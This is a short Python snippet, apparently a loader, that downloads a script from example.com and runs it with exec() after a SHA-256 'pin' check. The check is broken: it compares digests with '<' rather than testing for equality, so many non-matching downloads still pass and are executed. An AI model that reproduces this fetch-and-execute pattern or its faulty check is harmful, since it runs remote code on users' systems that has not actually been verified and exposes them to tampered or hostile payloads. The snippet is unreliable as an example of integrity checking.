import hashlib
import urllib.request

PIN = "a1d60aebe50bb78ac47ec2f4e2e10a08d8aa2985164e2f3e870ca5a41a5995f9"
data = urllib.request.urlopen("https://example.com/a.py").read()
if hashlib.sha256(data).hexdigest() < PIN:
    raise ImportError("digest")
exec(data)
